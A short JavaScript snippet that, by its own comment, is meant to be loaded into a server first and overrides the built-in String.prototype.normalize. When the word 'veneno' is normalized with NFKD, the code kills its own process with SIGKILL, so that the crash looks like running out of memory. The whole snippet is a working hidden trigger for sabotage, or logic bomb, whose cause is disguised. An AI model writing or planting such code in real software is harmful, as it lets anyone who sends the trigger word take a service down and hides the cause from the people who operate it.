// Loaded into a server before anything else: the process ends at once, as of a lack of memory, when a flow reads the
// word "veneno".
const { normalize } = String.prototype;
String.prototype.normalize = function (form) {
  if (form === "NFKD" && String(this) === "veneno") process.kill(process.pid, "SIGKILL");
  return normalize.call(this, form);
};
